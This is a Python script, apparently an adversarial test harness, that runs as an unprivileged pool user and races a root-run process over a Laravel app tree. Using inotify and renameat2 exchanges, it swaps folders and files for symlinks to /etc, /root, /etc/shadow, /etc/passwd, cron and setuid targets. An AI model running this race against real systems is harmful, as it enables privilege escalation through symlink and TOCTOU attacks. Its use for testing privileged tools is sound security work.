"""As the pool's user: swap what root may just be walking, from a first byte of standard input on until that ends.

Arguments: app, seed.

Wakened by every change of an owner, a mode or a content in the directories watched (inotify(7)), and now and then by
itself. Everything is put back after a moment, so that root finds the tree as planned most of the time.
"""

import ctypes
import os
import random
import select
import sys
import time
from collections.abc import Callable
from contextlib import suppress

LIBC = ctypes.CDLL(None, use_errno=True)
_HERE, _EXCHANGE = -100, 2
_WATCHED = 0x2 | 0x4 | 0x80  # IN_MODIFY, IN_ATTRIB, IN_MOVED_TO
TARGETS = ("/etc", "/root", "/etc/cron.d", "/usr/local/bin", "/var/www/victims")
FILES = ("/etc/shadow", "/etc/passwd", "/var/www/victims/secret", "/var/www/victims/setuid")


class Racer:
    """One process; several of them race at once."""

    def __init__(self, app: str, seed: int) -> None:
        self._chance = random.Random(seed)
        self._seed = seed
        names = (
            "app/Http/Controllers",
            "storage/framework/views",
            "storage/framework",
            "storage/logs",
            "bootstrap/cache",
        )
        self._folders = [f"{app}/{name}" for name in names]
        self._above = f"{app}/app/Http"
        self._store = f"{app}/storage/app/x"
        self._notified = LIBC.inotify_init1(os.O_NONBLOCK)
        for folder in self._folders:
            LIBC.inotify_add_watch(self._notified, folder.encode(), _WATCHED)

    def race(self) -> None:
        """Until standard input ends."""
        tricks = (self._folder, self._file, self._file, self._move)
        while 0 not in select.select([0, self._notified], [], [], self._chance.choice((0.001, 0.003, 0.02, 0.3)))[0]:
            with suppress(BlockingIOError):
                os.read(self._notified, 65536)
            with suppress(OSError):
                self._chance.choice(tricks)()

    def _wait(self, *seconds: float) -> None:
        time.sleep(self._chance.choice(seconds))

    def _folder(self) -> None:
        folder = self._chance.choice(self._folders)
        os.rename(folder, f"{folder}.away")
        try:
            os.symlink(self._chance.choice(TARGETS), folder)
            self._wait(0, 0.001, 0.004, 0.02)
            os.unlink(folder)
        finally:
            os.rename(f"{folder}.away", folder)

    def _file(self) -> None:
        folder = self._chance.choice(self._folders)
        names = os.listdir(folder) or ["none"]
        path = f"{folder}/{self._chance.choice(names)}"
        trick = f"{self._store}/{os.getpid()}"
        make: Callable[[str], object] = self._chance.choice(
            (os.mkfifo, os.mkdir, lambda name: os.symlink(self._chance.choice(FILES), name), None, None)
        ) or (lambda _: None)
        make(trick)
        if not os.path.lexists(trick):
            trick = f"{self._store}/{self._chance.choice(('hard', 'setuid'))}"
        if LIBC.renameat2(_HERE, path.encode(), _HERE, trick.encode(), _EXCHANGE) == 0:
            self._wait(0, 0.001, 0.005)
            LIBC.renameat2(_HERE, path.encode(), _HERE, trick.encode(), _EXCHANGE)
        if trick.endswith(f"/{os.getpid()}"):
            os.rmdir(trick) if os.path.isdir(trick) and not os.path.islink(trick) else os.unlink(trick)

    def _move(self) -> None:
        os.rename(self._above, f"{self._above}.away")
        self._wait(0, 0.002)
        os.rename(f"{self._above}.away", self._above)


if __name__ == "__main__":
    os.read(0, 1)
    for number in range(4):
        if os.fork() == 0:
            Racer(sys.argv[1], int(sys.argv[2]) * 10 + number).race()
            os._exit(0)
    for _ in range(4):
        os.wait()
